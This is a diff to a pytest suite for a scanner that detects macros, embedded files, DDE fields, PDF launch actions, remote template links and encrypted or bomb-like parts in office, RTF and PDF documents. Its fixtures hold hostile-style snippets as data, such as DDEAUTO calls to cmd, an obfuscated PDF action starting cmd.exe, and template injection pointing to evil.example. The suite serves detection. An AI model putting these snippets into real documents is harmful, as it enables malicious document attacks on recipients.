@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import random
 import zipfile
 import zlib
 
@@ -78,14 +79,18 @@ def test_a_bomb_is_looked_at_within_bounds() -> None:
     """200 MB of nothing in 200 kB, and a directory of forty thousand parts: the mark behind them is not reached."""
     assert traces(packed(word__document=b" " * (200 << 20) + b'<w:ins w:id="1">')) == ()
     many = packed(**{f"word__header{n}": "<w:ins >" for n in range(3_000)})
-    assert traces(many) == ()
+    assert traces(many) == ("unseen",)
+    bomb = [(f"word/header{n}.xml", bytes(9 << 20)) for n in range(5)]
+    assert traces(whole(*bomb, ("word/vbaProject.bin", b"x"))) == ("unseen",)
+    assert traces(whole(*bomb, ("word/embeddings/a.docm", whole(("word/vbaProject.bin", b"x"))))) == ("unseen",)
+    assert traces(whole(("word/embeddings/a.docx", whole(("a", random.randbytes(9 << 20)))))) == ("unseen",)
 
 
 @pytest.mark.parametrize("cut", [1, 30, 100, 200])
-def test_a_broken_file_has_no_traces_that_we_know_of(cut: int) -> None:
+def test_a_broken_file_may_hide_anything(cut: int) -> None:
     whole = packed(word__document=W.format('<w:ins w:id="1">'))
-    assert traces(whole[:-cut]) == ()
-    assert traces(whole[:40] + b"\0" * 60 + whole[100:]) == ()
+    assert traces(whole[:-cut]) == ("unseen",)
+    assert traces(whole[:40] + b"\0" * 60 + whole[100:]) == ("unseen",)
 
 
 NATIVE = "\x01Ole10Native".encode("utf-16-le")
@@ -127,11 +132,87 @@ def whole(*parts: tuple[str, bytes]) -> bytes:
         pytest.param(whole(("xl/macrosheets/sheet1.xml", b"<x/>")), True, id="xlsx with a macro sheet"),
         pytest.param(whole(("word/embeddings/oleObject1.bin", COMPOUND + NATIVE)), True, id="docx with a file in it"),
         pytest.param(whole(("word/embeddings/oleObject1.bin", COMPOUND)), False, id="docx with a formula"),
-        pytest.param(whole(("word/embeddings/Microsoft_Excel_Sheet.xlsx", b"PK")), False, id="docx with a sheet"),
+        pytest.param(
+            whole(("word/embeddings/Microsoft_Excel_Sheet.xlsx", whole(("xl/workbook.xml", b"<x/>")))),
+            False,
+            id="docx with a sheet",
+        ),
         pytest.param(whole(("Basic/Standard/Module1.xml", b"<m/>")), True, id="odt with macros"),
         pytest.param(whole(("Basic/Standard/script-lb.xml", b"<m/>")), False, id="odt with an empty library"),
         pytest.param(whole(("Object 1", COMPOUND + NATIVE)), True, id="odt with a file in it"),
+        pytest.param(whole(("Pictures/1.png", COMPOUND + NATIVE)), True, id="odt with a file in a picture's place"),
+        pytest.param(whole(("word/media/a.dat", b"MZ\x90\0")), True, id="docx with a program"),
+        pytest.param(
+            whole(("word/embeddings/a.docm", whole(("word/vbaProject.bin", b"x")))), True, id="docx with a docm in it"
+        ),
+        pytest.param(whole(("word/chunk.rtf", rb"{\rtf1{\*\objdata 01}}")), True, id="docx with an rtf in it"),
+        pytest.param(
+            whole(("word/document.xml", b'<w:instrText xml:space="preserve"> DDEAUTO c:\\cmd')),
+            True,
+            id="docx with DDE",
+        ),
+        pytest.param(
+            whole(("xl/externalLinks/externalLink1.xml", b'<x><ddeLink ddeService="cmd"/>')), True, id="xlsx DDE"
+        ),
+        pytest.param(b"\n {" + rb"\rtf1{\*\objdata 0105}}", True, id="rtf behind a blank"),
+        pytest.param(rb'{\rtf1{\field{\*\fldinst {\rtlch DDEAUTO cmd "/k"}}}', True, id="rtf with DDE"),
+        pytest.param(rb'{\rtf1{\field{\*\fldinst HYPERLINK "x"}}', False, id="rtf with a link"),
+        pytest.param(b"%PDF-1.4\n<</OpenAction<</S /Launch/F(cmd.exe)>>>>", True, id="pdf that starts a program"),
+        pytest.param(b"%PDF-1.4\n<</S/L#61unch/F(cmd.exe)>>", True, id="pdf that does so in numbers"),
+        pytest.param(b"%PDF-1.4\n<</S/URI/URI(https://launch.example)>>", False, id="pdf with a link"),
     ],
 )
 def test_what_can_run_in_a_document(content: bytes, runs: bool) -> None:
     assert ("runs" in traces(content)) is runs
+
+
+def linked(kind: str, target: str, coding: str = "utf-8") -> bytes:
+    """A text document that is linked to something so."""
+    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    link = f'<Relationship Id="r1" Target="{target}" TargetMode="External" Type="{kinds}{kind}"/>'
+    rels = f"<?xml version='1.0'?><Relationships xmlns='x'>{link}</Relationships>"
+    return whole(("word/document.xml", b"<w:p/>"), ("word/_rels/document.xml.rels", rels.encode(coding)))
+
+
+@pytest.mark.parametrize(
+    ("content", "fetches"),
+    [
+        (linked("attachedTemplate", "http://evil.example/x.dotm"), True),
+        (linked("attachedTemplate", "http://evil.example/x.jpg?a.dotx"), True),
+        (linked("attachedTemplate", "&#104;ttp://evil.example/x"), True),
+        (linked("attachedTemplate", "http://evil.example/x", "utf-16"), True),
+        (linked("attachedTemplate", "file:///\\\\evil.example\\x.dotm"), True),
+        (linked("attachedTemplate", "file://evil.example/x.dotm"), True),
+        (linked("attachedTemplate", "file:///C:\\Users\\Eva\\Normal.dotm"), False),
+        (linked("attachedTemplate", "Normal.dotm"), False),
+        (linked("attachedTemplate", "https://firma.sharepoint.com/mallar/Brev.dotx"), False),
+        (linked("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"), True),
+        (linked("oleObject", "file:///C:\\Users\\Eva\\lista.xlsx"), False),
+        (linked("hyperlink", "https://www.ekvik.example/"), False),
+        (linked("image", "https://www.ekvik.example/logo.png"), False),
+        (rb"{\rtf1{\*\template http://evil.example/x.dotm}}", True),
+        (rb"{\rtf1{\*\template \'68ttp://evil.example/x.dotm}}", True),
+        (rb"{\rtf1{\*\template C:\\Users\\Eva\\Normal.dotm}}", False),
+    ],
+)
+def test_what_is_fetched_from_elsewhere(content: bytes, fetches: bool) -> None:
+    assert ("fetches" in traces(content)) is fetches
+
+
+BOOK = b"\x09\x08\x10\0\0\x06\x05\0" + bytes(12)
+
+
+@pytest.mark.parametrize(
+    ("content", "unseen"),
+    [
+        (COMPOUND + "EncryptedPackage".encode("utf-16-le"), True),
+        (COMPOUND + BOOK + b"\x2f\0\x36\0\x01\0\x01\0", True),
+        (COMPOUND + BOOK + b"\x86\0\0\0\x2f\0\xc8\0\x01\0", True),
+        (COMPOUND + BOOK + b"\xe1\0\x02\0\xb0\x04", False),
+        (b"%PDF-1.7\n<</Names<</EmbeddedFiles 5 0 R>>>>", True),
+        (b"%PDF-1.7\n<</Type/ObjStm>>stream\n" + zlib.compress(b"<</Type/EmbeddedFile>>"), True),
+        (b"%PDF-1.7\n<</Type/Font/FontFile2 5 0 R>>", False),
+    ],
+)
+def test_what_is_locked_or_packed_cannot_be_seen(content: bytes, unseen: bool) -> None:
+    assert ("unseen" in traces(content)) is unseen
